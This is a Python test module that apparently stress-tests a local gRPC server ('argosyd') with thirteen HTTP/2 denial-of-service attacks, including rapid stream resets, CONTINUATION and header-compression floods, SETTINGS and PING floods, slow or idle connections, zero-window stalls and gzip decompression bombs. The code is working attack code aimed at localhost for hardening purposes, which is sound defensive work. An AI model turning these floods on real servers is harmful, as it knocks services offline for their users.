# SPDX-License-Identifier: Apache-2.0
"""What strangers send to the gRPC port, as frames of HTTP/2. Each attack runs in a process of its
own, for as long as it is told, and takes the world that is attacked and the target."""

import gzip
import socket
import struct
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST, SETTINGS, PING, WINDOW, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS, ACK = 1, 4, 1
CANCEL = struct.pack(">I", 8)


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(
        ">I", stream) + payload


def indexed(name, value):
    return name + bytes([len(value)]) + value


def named(name, value):
    return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value


def block(path=b"/api.Submit/SubmitJobs"):
    return (b"\x83\x86" + indexed(b"\x01", b"localhost") + indexed(b"\x04", path) +
            indexed(b"\x0f\x10", b"application/grpc") + named(b"te", b"trailers"))


def greeting(settings=b""):
    return PREFACE + frame(SETTINGS, 0, 0, settings) + frame(SETTINGS, ACK, 0)


def connect(world):
    made = socket.create_connection(("127.0.0.1", int(world.grpc.rsplit(":", 1)[1])), timeout=5)
    return made


def flood(world, end, pieces, hello=greeting()):
    """Sends on one connection after the other, each until the server has had enough of it."""
    while time.monotonic() < end:
        try:
            made = connect(world)
            made.sendall(hello)
            for piece in pieces():
                made.sendall(piece)
                made.setblocking(False)
                try:
                    while made.recv(65_536):
                        pass
                    break
                except BlockingIOError:
                    made.settimeout(5)
                if time.monotonic() > end:
                    break
            made.close()
        except OSError:
            pass


def side_by_side(count, what):
    all_of_them = [threading.Thread(target=what) for _ in range(count)]
    for each in all_of_them:
        each.start()
    for each in all_of_them:
        each.join()


def resets(world, _, end):
    """At least 150,000 calls that are opened and reset in 8 s."""
    head, sent = block(), [0]

    def pieces():
        for first in range(1, 2**31 - 200, 200):
            sent[0] += 100
            yield b"".join(frame(HEADERS, END_HEADERS | END_STREAM, stream, head) +
                           frame(RST, 0, stream, CANCEL)
                           for stream in range(first, first + 200, 2))
    side_by_side(2, lambda: flood(world, end, pieces))
    print(f"  {sent[0]} calls were opened and reset", flush=True)


def late_resets(world, _, end):
    """Calls that are reset when the server has begun with them."""
    head = block()

    def pieces():
        for first in range(1, 2**31 - 20, 20):
            streams = range(first, first + 20, 2)
            yield b"".join(frame(HEADERS, END_HEADERS | END_STREAM, each, head) for each in streams)
            time.sleep(0.001)
            yield b"".join(frame(RST, 0, each, CANCEL) for each in streams)
    side_by_side(8, lambda: flood(world, end, pieces))


def continuations(world, _, end):
    def pieces():
        yield frame(HEADERS, 0, 1, block())
        while True:
            yield frame(CONTINUATION, 0, 1, named(b"x-a", b"y" * 100) * 100)
    side_by_side(4, lambda: flood(world, end, pieces))


def packed_headers(world, _, end):
    """Each call has 10,000 headers of 3 kB, of which one byte stands for each after the first."""
    large = b"\x40\x03x-a\x7f\xb9\x16" + b"y" * 3_000 + b"\xbe" * 10_000

    def pieces():
        for stream in range(1, 2**31, 2):
            yield frame(HEADERS, END_HEADERS, stream, block() + large)
    side_by_side(4, lambda: flood(world, end, pieces))


def settings(world, _, end):
    def pieces():
        while True:
            yield frame(SETTINGS, 0, 0) * 1_000
    side_by_side(4, lambda: flood(world, end, pieces))


def pings(world, _, end):
    def pieces():
        while True:
            yield frame(PING, 0, 0, b"\0" * 8) * 1_000
    side_by_side(4, lambda: flood(world, end, pieces))


def small_data(world, _, end):
    def pieces():
        yield frame(HEADERS, END_HEADERS, 1, block()) + frame(DATA, 0, 1, b"\0\0\x10\0\0")
        while True:
            yield frame(DATA, 0, 1, b"x") * 1_000
    side_by_side(4, lambda: flood(world, end, pieces))


def calls_without_end(world, _, end):
    """Opens calls that send no request, and does not obey the limit."""
    def pieces():
        for first in range(1, 2**31 - 200, 200):
            yield b"".join(frame(HEADERS, END_HEADERS, stream, block())
                           for stream in range(first, first + 200, 2))
    side_by_side(4, lambda: flood(world, end, pieces))


def hold_open(world, end, count, bytes_of):
    """Keeps so many connections, each with some bytes, and replaces those that are closed."""
    held = []
    while time.monotonic() < end:
        while len(held) < count and time.monotonic() < end:
            try:
                made = connect(world)
                made.sendall(bytes_of(len(held)))
                held.append(made)
            except OSError:
                time.sleep(0.01)
        still = []
        for each in held:
            each.setblocking(False)
            try:
                if each.recv(4_096):
                    still.append(each)
                    continue
            except BlockingIOError:
                still.append(each)
                continue
            except OSError:
                pass
            each.close()
        held = still


def idle(world, _, end):
    hold_open(world, end, 4_000, lambda _: greeting())


def slow_preface(world, _, end):
    hold_open(world, end, 4_000, lambda number: PREFACE[:number % len(PREFACE)])


def large_requests(world, _, end):
    """Each sends as much of a request as the server takes, and never the end."""
    body = frame(HEADERS, END_HEADERS, 1, block()) + frame(DATA, 0, 1, b"\0\0\x3f\xff\xff")
    body += frame(DATA, 0, 1, b"x" * 16_000) * 4
    hold_open(world, end, 1_000, lambda _: greeting() + body)


def never_read(world, _, end):
    """Calls whose answers nobody takes, since their window is nothing."""
    no_window = struct.pack(">HI", 4, 0)
    body = b"".join(frame(HEADERS, END_HEADERS, stream, block(b"/argosy.v1.Access/WhoAmI")) +
                    frame(DATA, END_STREAM, stream, b"\0\0\0\0\0") for stream in range(1, 32, 2))
    hold_open(world, end, 1_000, lambda _: greeting(no_window) + body)


def packed_requests(world, _, end):
    """A user who is known, and may do nothing, has 4 MB unpacked for each 4 kB that he sends."""
    body = gzip.compress(b"\0" * (4_000_000))
    message = b"\1" + struct.pack(">I", len(body)) + body
    head = block() + named(b"grpc-encoding", b"gzip") + named(
        b"authorization", world.password_of("bob").encode())

    def pieces():
        for first in range(1, 2**31 - 16, 16):
            yield b"".join(frame(HEADERS, END_HEADERS, each, head) +
                           frame(DATA, END_STREAM, each, message)
                           for each in range(first, first + 16, 2))
            time.sleep(0.05)
    side_by_side(6, lambda: flood(world, end, pieces))


# Name, target, function.
ATTACKS = [
    ("gRPC resets", "argosyd", resets),
    ("gRPC late resets", "argosyd", late_resets),
    ("gRPC CONTINUATION", "argosyd", continuations),
    ("gRPC packed headers", "argosyd", packed_headers),
    ("gRPC SETTINGS", "argosyd", settings),
    ("gRPC PING", "argosyd", pings),
    ("gRPC data of one byte", "argosyd", small_data),
    ("gRPC calls without end", "argosyd", calls_without_end),
    ("gRPC 4,000 idle", "argosyd", idle),
    ("gRPC 4,000 slow prefaces", "argosyd", slow_preface),
    ("gRPC requests without end", "argosyd", large_requests),
    ("gRPC answers never read", "argosyd", never_read),
    ("gRPC packed requests of a user", "argosyd", packed_requests),
]
